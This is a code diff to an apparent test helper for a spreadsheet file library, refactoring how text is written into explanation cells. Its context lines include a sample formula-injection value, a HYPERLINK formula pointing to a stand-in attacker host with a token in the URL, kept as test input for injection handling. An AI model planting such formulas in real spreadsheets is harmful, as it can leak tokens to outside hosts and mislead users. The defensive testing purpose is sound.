@@ -12,7 +12,8 @@ from pathlib import Path
 
 from xxgk.formats import get_format
 
-from .base import (ANY, READ, TOKEN, Case, edit, inline_text, sheet_parts, template_bytes, values_for, write)
+from .base import (ANY, READ, TOKEN, Case, edit, inline_text, set_sheet_cells, sheet_parts, template_bytes, values_for,
+                   write)
 
 FORMULA_LIKE = (
     f'=HYPERLINK("http://evil.example/{TOKEN}","点此查看")',
@@ -56,16 +57,12 @@ def explanation_cells(parts: dict) -> tuple[str, list[str]]:
 
 def with_explanations(data: bytes, text: str, raw: bool = False) -> bytes:
     """Every 说明 cell holding ``text`` (raw: control characters left unescaped, as a broken tool would)."""
-    from .base import set_cell
-
     def change(parts: dict) -> None:
         member, refs = explanation_cells(parts)
-        xml = parts[member].decode("utf-8")
         body = inline_text(text)
         if not raw:
             body = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group(0)):04X}_", body)
-        for ref in refs:
-            xml = set_cell(xml, ref, body, "inlineStr")
+        xml = set_sheet_cells(parts[member].decode("utf-8"), {ref: (body, "inlineStr") for ref in refs})
         parts[member] = xml.encode("utf-8")
 
     return edit(data, change)
